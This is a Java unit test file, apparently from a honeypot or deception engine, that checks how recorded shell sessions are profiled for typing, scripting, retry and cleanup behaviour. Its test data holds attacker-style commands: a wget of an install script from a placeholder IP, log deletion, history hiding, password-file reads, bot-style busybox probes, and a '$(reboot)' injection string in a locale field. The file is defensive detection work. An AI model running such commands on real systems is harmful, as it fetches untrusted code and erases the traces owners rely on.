package org.decnet.engine.keystroke;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import org.decnet.engine.shell.TolerantShellParser;
import org.decnet.model.observation.Observation;
import org.decnet.model.observation.Primitive;
import org.decnet.testkit.Tty;
import org.decnet.testkit.Tty.Hand;
import org.junit.jupiter.api.Test;

/** Recordings of which it is known how they came to be. */
class BehaviouralPrimitivesTest {
  private static final String REF = "tty/abc#sensor:s1";
  private static final String[] COMMANDS = {
    "uname -a", "cat /proc/cpuinfo", "ls -la /var/tmp", "wget http://192.0.2.7/install.sh",
    "chmod 777 install.sh", "ps aux | grep miner | head", "netstat -antp", "crontab -l"
  };

  private final BehaviouralPrimitives primitives =
      new BehaviouralPrimitives(new TolerantShellParser());

  @Test
  void aHumanAtTheKeyboardIsSeenTyping() throws IOException {
    Map<Primitive, String> seen = values(human(1, 200, 7).closed());
    assertThat(seen)
        .containsEntry(Primitive.INPUT_MODALITY, "\"typed\"")
        .containsEntry(Primitive.PASTE_BURST_RATE, "0")
        .containsEntry(Primitive.COMMAND_CHUNKING, "\"single\"")
        .containsEntry(Primitive.INTER_COMMAND_LATENCY_CLASS, "\"considered\"")
        .containsEntry(Primitive.FEEDBACK_LOOP_ENGAGEMENT, "1")
        .containsEntry(Primitive.LANDING_RITUAL, "\"uname>cat>ls\"")
        .containsEntry(Primitive.PIPE_CHAINING_DEPTH, "3")
        .containsEntry(Primitive.EXPLORATION_STYLE, "\"broad\"")
        .containsEntry(Primitive.SHELL_TYPE, "\"posix\"")
        .containsKey(Primitive.DIGRAPH_SIMHASH);
    assertThat(number(seen, Primitive.KEYSTROKE_CADENCE)).isBetween(180.0, 280.0);
  }

  @Test
  void pastedLinesWithATypedEnterAreSeenPasted() throws IOException {
    Tty tty = Tty.begun();
    for (String command : COMMANDS) {
      tty.after(9000)
          .input(command)
          .after(700)
          .input("\r")
          .after(50)
          .output("\r\nfine, thank you\r\n");
    }
    assertThat(values(tty.closed()))
        .containsEntry(Primitive.INPUT_MODALITY, "\"pasted\"")
        .containsEntry(Primitive.COMMAND_CHUNKING, "\"single\"")
        .doesNotContainKey(Primitive.KEYSTROKE_CADENCE)
        .doesNotContainKey(Primitive.DIGRAPH_SIMHASH);
  }

  @Test
  void aScriptThatSendsBlocksIsSeenAsAScript() throws IOException {
    byte[] recording =
        Tty.begun()
            .input("enable\nsystem\nshell\nsh\n")
            .after(190)
            .output("sh: enable: command not found\r\n")
            .input("cat /proc/mounts; /bin/busybox EXAMPLE\n")
            .after(180)
            .output("EXAMPLE: applet not found\r\n")
            .input("cd /dev/shm; cat .s || cp /bin/echo .s\nexit\n")
            .closed();
    assertThat(values(recording))
        .containsEntry(Primitive.INPUT_MODALITY, "\"scripted\"")
        .containsEntry(Primitive.PASTE_BURST_RATE, "1")
        .containsEntry(Primitive.COMMAND_CHUNKING, "\"block\"")
        .containsEntry(Primitive.INTER_COMMAND_LATENCY_CLASS, "\"instant\"")
        .containsEntry(Primitive.FEEDBACK_LOOP_ENGAGEMENT, "0")
        .containsEntry(Primitive.SHELL_TYPE, "\"device\"")
        .containsEntry(Primitive.EXIT_BEHAVIOR, "\"exit_command\"");
  }

  @Test
  void aCommandWithoutATerminalIsAScript() throws IOException {
    Map<Primitive, String> seen =
        values(Tty.begun().command("uname -s -v; id; nproc").output("Linux\n").closed());
    assertThat(seen)
        .containsEntry(Primitive.INPUT_MODALITY, "\"scripted\"")
        .containsEntry(Primitive.COMMAND_CHUNKING, "\"chained\"")
        .containsEntry(Primitive.TOOL_VOCABULARY, "3")
        .doesNotContainKey(Primitive.EXIT_BEHAVIOR)
        .doesNotContainKey(Primitive.PASTE_BURST_RATE);
  }

  @Test
  void correctionsTabsAndShortcutsAreCounted() throws IOException {
    Hand hand = hand(3, 150, 1);
    Tty tty = Tty.begun();
    tty.typed("catt\u007f /etc/pass\twd\r", hand).after(2000);
    tty.typed("\u001b", hand).after(900).typed("id\u0001\u0005\r", hand);
    Map<Primitive, String> seen = values(tty.closed());
    assertThat(number(seen, Primitive.ERROR_CORRECTION)).isBetween(0.05, 0.07);
    assertThat(number(seen, Primitive.TAB_COMPLETION)).isEqualTo(0.5);
    assertThat(number(seen, Primitive.SHORTCUT_USAGE)).isEqualTo(1.0);
  }

  @Test
  void paceIsOfCharactersAloneAndNotOfThought() throws IOException {
    Tty tty = Tty.begun();
    for (int i = 0; i < 12; i++) {
      tty.after(100)
          .input("a")
          .after(900)
          .input("\u007f")
          .after(900)
          .input("a")
          .after(5000)
          .input("b");
    }
    tty.after(100).input("c").after(100).input("d").after(100).input("e");
    assertThat(number(values(tty.after(200).input("\r").closed()), Primitive.KEYSTROKE_CADENCE))
        .isEqualTo(100);
  }

  @Test
  void whatFollowsAComplaintIsTheTactic() throws IOException {
    assertThat(values(complaint("wget http://192.0.2.7/a", "wget -q http://192.0.2.7/a")))
        .containsEntry(Primitive.RETRY_TACTIC, "\"amend\"");
    assertThat(values(complaint("wget http://192.0.2.7/a", "curl http://192.0.2.7/a")))
        .containsEntry(Primitive.RETRY_TACTIC, "\"move_on\"");
    assertThat(values(complaint("service ssh stop", "service ssh stop")))
        .containsEntry(Primitive.RETRY_TACTIC, "\"repeat\"");
  }

  @Test
  void careIsSeen() throws IOException {
    Hand hand = hand(4, 120, 2);
    byte[] recording =
        Tty.begun()
            .typed("unset HISTFILE\r", hand)
            .after(3000)
            .typed("sudo su\r", hand)
            .after(3000)
            .typed("man ls\r", hand)
            .after(3000)
            .typed("rm -rf /var/log/auth.log\r", hand)
            .after(3000)
            .typed("\u0004", hand)
            .closed();
    assertThat(values(recording))
        .containsEntry(Primitive.OPSEC_DISCIPLINE, "\"hides_history\"")
        .containsEntry(Primitive.CLEANUP_BEHAVIOR, "\"cleans\"")
        .containsEntry(Primitive.ESCALATION_PATTERN, "\"early\"")
        .containsEntry(Primitive.FALLBACK_TO_MAN, "true")
        .containsEntry(Primitive.EXIT_BEHAVIOR, "\"end_of_input\"");
  }

  @Test
  void anotherHandTakingOverIsSeen() throws IOException {
    Tty tty = human(1, 120, 3);
    assertThat(values(tty.bytes())).containsEntry(Primitive.MULTI_ACTOR_INDICATORS, "\"none\"");
    Hand slow = hand(2, 420, 4);
    for (String command : COMMANDS) {
      tty.after(4000).typed(command + "\r", slow);
    }
    assertThat(values(tty.closed()))
        .containsEntry(Primitive.MULTI_ACTOR_INDICATORS, "\"cadence_shift\"");
  }

  @Test
  void theRhythmOfOneHandIsAlikeAndOfTwoIsNot() throws IOException {
    int alike = 0;
    int strange = 0;
    for (int round = 0; round < 20; round++) {
      long one = rhythm(human(round, 180, round).closed());
      long again = rhythm(human(round, 180, round + 1000).closed());
      long other = rhythm(human(round + 500, 180, round + 2000).closed());
      alike += Long.bitCount(one ^ again);
      strange += Long.bitCount(one ^ other);
    }
    assertThat(alike / 20).isLessThanOrEqualTo(8);
    assertThat(strange / 20).isGreaterThanOrEqualTo(20);
  }

  @Test
  void observationsPointAtTheRecordingAndItsTime() throws IOException {
    byte[] recording = Tty.begun().command("id").after(1500).output("uid=0\n").closed();
    List<Observation> observations = primitives.of(Tty.stream(recording), REF, "de_DE.UTF-8");
    assertThat(observations)
        .allSatisfy(observation -> {
          assertThat(observation.evidenceRef()).isEqualTo(REF);
          assertThat(observation.windowStart()).isEqualTo("2026-03-01T00:00:00Z");
          assertThat(observation.windowEnd()).isEqualTo("2026-03-01T00:00:01.500Z");
          assertThat(observation.confidence()).isBetween(0.0, 0.95);
        })
        .extracting(Observation::primitive)
        .doesNotHaveDuplicates()
        .contains(Primitive.LOCALE, Primitive.SESSION_DURATION);
    assertThat(observations).extracting(Observation::id).doesNotHaveDuplicates();
    assertThat(primitives.of(Tty.stream(recording), REF, "de_DE.UTF-8")).isEqualTo(observations);
    assertThat(values(recording, "$(reboot)")).doesNotContainKey(Primitive.LOCALE);
  }

  @Test
  void littleInputGivesLittleConfidence() throws IOException {
    Hand hand = hand(1, 150, 1);
    assertThat(confidence(Tty.begun().typed("ls -la\r", hand).closed()))
        .isLessThan(0.2)
        .isLessThan(confidence(human(1, 150, 1).closed()));
  }

  @Test
  void whoSendsNothingShowsNothing() throws IOException {
    assertThat(values(Tty.begun().output("login: ").closed())).isEmpty();
  }

  private double confidence(byte[] recording) throws IOException {
    return primitives.of(Tty.stream(recording), REF, null).stream()
        .filter(observation -> observation.primitive() == Primitive.KEYSTROKE_CADENCE)
        .findFirst()
        .orElseThrow()
        .confidence();
  }

  private static byte[] complaint(String first, String second) {
    Hand hand = hand(9, 130, 5);
    return Tty.begun()
        .typed(first + "\r", hand)
        .after(80)
        .output("\r\n-bash: command not found\r\n")
        .after(1500)
        .typed(second + "\r", hand)
        .closed();
  }

  private static Tty human(long seed, int millis, long day) {
    Hand hand = hand(seed, millis, day);
    Tty tty = Tty.begun();
    for (String command : COMMANDS) {
      tty.after(4000).typed(command + "\r", hand).after(60).output("\r\nsome words to read\r\n");
    }
    return tty;
  }

  private static Hand hand(long seed, int millis, long day) {
    return new Hand(seed, millis, new Random(day));
  }

  private long rhythm(byte[] recording) throws IOException {
    String hash = Objects.requireNonNull(values(recording).get(Primitive.DIGRAPH_SIMHASH));
    return Long.parseUnsignedLong(hash.substring(1, 17), 16);
  }

  private static double number(Map<Primitive, String> seen, Primitive primitive) {
    return Double.parseDouble(Objects.requireNonNull(seen.get(primitive)));
  }

  private Map<Primitive, String> values(byte[] recording) throws IOException {
    return values(recording, "");
  }

  private Map<Primitive, String> values(byte[] recording, String language) throws IOException {
    Map<Primitive, String> values = new HashMap<>();
    for (Observation seen : primitives.of(Tty.stream(recording), REF, language)) {
      values.put(seen.primitive(), seen.value().json());
    }
    return values;
  }
}
